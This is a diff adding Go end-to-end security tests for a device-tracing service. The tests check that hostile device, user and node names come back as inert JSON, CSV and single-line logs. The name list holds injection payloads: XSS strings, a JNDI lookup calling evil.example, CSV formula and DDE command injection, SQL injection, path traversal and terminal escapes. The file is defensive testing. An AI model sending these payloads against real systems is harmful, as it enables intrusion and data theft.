@@ -1,0 +1,156 @@
+package e2e
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"devicetrace/infra/local/demo/ends"
+)
+
+// hostileNames are what a device or a sender might call itself to be taken for
+// something else where it is shown.
+var hostileNames = []string{
+	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
+	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
+	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
+}
+
+// TestAttackNames: hostile names come back as they were, as data: in JSON that no
+// browser takes for a page, in CSV that no spreadsheet takes for a formula, and in logs
+// of one line a record.
+func TestAttackNames(t *testing.T) {
+	t.Parallel()
+	count := countAttacks(t)
+	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
+	from := time.Now().Add(-time.Minute)
+	for i, name := range hostileNames {
+		event := sent{ClientID: name, Action: "close", Time: from.UnixMilli(), NativeReason: name, Username: name, Node: name, SourceEventID: fmt.Sprint(i)}
+		body, err := json.Marshal(event)
+		require.NoError(t, err)
+		r := s.post(t, "/webhooks/events/names", body, http.Header{"X-Log-Position": {"p"}, "User-Agent": {"</script>\t${x}"}})
+		if r.status == 400 { // names that no broker's string may hold
+			require.Contains(t, string(r.body), `"rejected":[{`)
+			count.note(r)
+			continue
+		}
+		require.Equal(t, 200, r.status, string(r.body))
+		requireNamed(t, s, name, from)
+	}
+	for _, path := range []string{"/webhooks/%3Cscript%3E/x", "/webhooks/events/%3Cscript%3E", "/webhooks/events/a%0a%1b", "/api/v1/trace?%3Cscript%3E=1", "/%3Cscript%3E", "/console/%3Cscript%3E",
+		"/?Action=%3Cscript%3E", "/?Action=x&%3Cscript%3E=1&%3Cscript%3E=2", "/webhooks/quarantine/%3Cscript%3E", "/api/v1/trace?instance=%3Cscript%3E&client=c&order=%3Cscript%3E"} {
+		for _, method := range []string{"GET", "POST"} {
+			r := s.send(t, method, path, "<script>", "Authorization", "Bearer "+queryToken)
+			require.NotContains(t, r.header.Get("Content-Type"), "html", path)
+			require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), path)
+		}
+	}
+	s.connectNamed(t)
+	s.interrupt(t)
+	s.requireWholeLines(t)
+}
+
+// requireNamed asks for a device in all formats.
+func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
+	t.Helper()
+	if len(name) > 1000 { // the platform takes URLs of 4 KB
+		return
+	}
+	q := question("names", name, from.Add(-time.Minute), time.Now())
+	page := s.ask(t, q)
+	require.Equal(t, "application/json", page.header.Get("Content-Type"))
+	require.Equal(t, "nosniff", page.header.Get("X-Content-Type-Options"))
+	var a answer
+	require.NoError(t, json.Unmarshal(page.body, &a))
+	require.Len(t, a.Events, 1)
+	require.Equal(t, name, a.rows(t)[0].ClientID)
+
+	table := s.ask(t, with(q, "format", "csv"))
+	require.Equal(t, "nosniff", table.header.Get("X-Content-Type-Options"))
+	records, err := csv.NewReader(bytes.NewReader(table.body)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 2)
+	for _, cell := range records[1] {
+		require.NotRegexp(t, "^[=+\\-@\t\r\n\x00\uff1d]", cell)
+	}
+}
+
+// connectNamed lets devices with such names connect to the local broker, and be refused.
+func (s *stack) connectNamed(t *testing.T) {
+	t.Helper()
+	for _, name := range hostileNames {
+		for _, target := range []ends.Target{s.target(), {Address: s.target().Address, User: name, Password: name}} {
+			if connection, err := ends.Dial(t.Context(), target, name, time.Minute); err == nil {
+				connection.Close()
+			}
+		}
+	}
+}
+
+// fixedLine is what the platform's SDK says of each call.
+var fixedLine = regexp.MustCompile(`^FC (Invoke|Initialize|PreStop) (Start|End) RequestId: [0-9a-z-]+$`)
+
+// requireWholeLines: every line of a function's log is one record, and nothing that was
+// said can move a terminal's cursor.
+func (s *stack) requireWholeLines(t *testing.T) {
+	t.Helper()
+	logged, err := os.ReadFile(filepath.Join(s.data, "functions.log"))
+	require.NoError(t, err)
+	for line := range strings.Lines(string(logged)) {
+		_, said, found := strings.Cut(strings.TrimSuffix(line, "\n"), " | ")
+		require.True(t, found, line)
+		if fixedLine.MatchString(said) {
+			continue
+		}
+		var record struct{ Time, Level, Msg, Function string }
+		require.NoError(t, json.Unmarshal([]byte(said), &record), said)
+		require.NotEqual(t, "forged", record.Msg)
+	}
+	for _, text := range []string{string(logged), s.output.said.String()} {
+		require.NotRegexp(t, "[\x00-\x08\x0b-\x1f\x7f\u2028\u202e]", text)
+		require.NotContains(t, text, "\n{\"level\"")
+	}
+}
+
+// internals are what no answer may tell.
+var internals = regexp.MustCompile(`goroutine|panic|\.go:|runtime error|secret|STS\.|<Error>|oss-|aliyuncs`)
+
+// TestAttackAnswers: no answer of private data, and no refusal, may be kept, sniffed or
+// read by a page of another origin, or tells of the machinery behind it.
+func TestAttackAnswers(t *testing.T) {
+	t.Parallel()
+	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
+	s.record(t, "attacked", manyEvents(secretClient, time.Now(), 1))
+	for _, d := range doors {
+		for _, token := range []string{d.token, "wrong"} {
+			r := s.send(t, d.method, d.path, d.body, "Authorization", "Bearer "+token, "Origin", "https://evil.example")
+			requirePrivate(t, r, d.path)
+		}
+		requirePrivate(t, s.send(t, "PUT", d.path, d.body, "Authorization", "Bearer "+d.token), d.path)
+		requirePrivate(t, s.send(t, "OPTIONS", d.path, "", "Origin", "https://evil.example", "Access-Control-Request-Method", d.method), d.path)
+	}
+	for _, path := range []string{"/nowhere", "/api/v1/nowhere", "/webhooks/nowhere", "/?Action=x", "/console/nowhere"} {
+		requirePrivate(t, s.send(t, "GET", path, ""), path)
+	}
+}
+
+func requirePrivate(t *testing.T, r response, path string) {
+	t.Helper()
+	require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), path)
+	require.Contains(t, []string{"no-store", "private, no-cache"}, r.header.Get("Cache-Control"), path)
+	require.NotContains(t, r.header.Get("Content-Type"), "html", path)
+	require.NotRegexp(t, internals, string(r.body), path)
+	for _, name := range []string{"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials", "Location", "Set-Cookie", "Server", "X-Powered-By"} {
+		require.Empty(t, r.header.Values(name), "%s: %s", path, name)
+	}
+}
